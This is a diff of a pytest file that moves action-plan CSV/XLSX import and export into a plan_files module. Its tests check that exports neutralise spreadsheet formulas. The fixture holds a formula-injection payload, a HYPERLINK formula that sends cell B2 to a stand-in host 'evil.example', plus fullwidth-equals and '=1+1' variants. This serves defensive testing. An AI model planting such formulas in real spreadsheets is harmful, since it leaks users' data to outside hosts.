@@ -13,7 +13,7 @@ import pandas as pd
 import pytest
 
 from sp_analysis import exports
-from sp_analysis.plan import actions, framework
+from sp_analysis.plan import actions, framework, plan_files
 from sp_analysis.workspace import Workspace
 
 HOSTILE_CELLS = [
@@ -57,31 +57,31 @@ TITLE = '=HYPERLINK("http://evil.example/steal?d="&B2,"Open the plan")'
 def hostile_plan(ws: Workspace) -> None:
     text = ("title,officer,measures,status\n"
             f'"{TITLE.replace(chr(34), chr(34) * 2)}",\uff1dHYPERLINK("http://evil.example"),"\n=1+1",not started\n')
-    actions.import_plan(ws, text.encode(), "plan.csv", dt.date(2026, 1, 1))
+    plan_files.import_plan(ws, text.encode(), "plan.csv", dt.date(2026, 1, 1))
 
 
 def test_the_action_plan_csv_export_is_neutralised_and_imports_back(ws: Workspace) -> None:
     hostile_plan(ws)
-    exported = actions.export_plan_csv(ws)
+    exported = plan_files.export_plan_csv(ws)
     rows = list(csv.DictReader(io.StringIO(exported)))
     assert rows[0]["title"] == "'" + TITLE
     assert rows[0]["officer"].startswith("'\uff1d")
     assert rows[0]["measures"] == "'=1+1"  # the import strips the line break; the export still neutralises
     # The export is also the import format: reading it back gives the text as it was.
-    actions.import_plan(ws, exported.encode(), "again.csv", dt.date(2026, 1, 2), replace_all=True)
+    plan_files.import_plan(ws, exported.encode(), "again.csv", dt.date(2026, 1, 2), replace_all=True)
     assert [a.title for a in actions.load_actions(ws)] == [TITLE]
 
 
 def test_the_action_plan_xlsx_export_holds_no_formula(ws: Workspace, tmp_path: Path) -> None:
     hostile_plan(ws)
-    data = actions.export_plan_xlsx(ws)
+    data = plan_files.export_plan_xlsx(ws)
     book = openpyxl.load_workbook(io.BytesIO(data))
     formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                 if c.data_type == "f"]
     assert formulas == []
     title = book["Actions"]["B2"].value
     assert title == "'" + TITLE
-    actions.import_plan(ws, data, "again.xlsx", dt.date(2026, 1, 2), replace_all=True)
+    plan_files.import_plan(ws, data, "again.xlsx", dt.date(2026, 1, 2), replace_all=True)
     assert [a.title for a in actions.load_actions(ws)] == [TITLE]
 
 
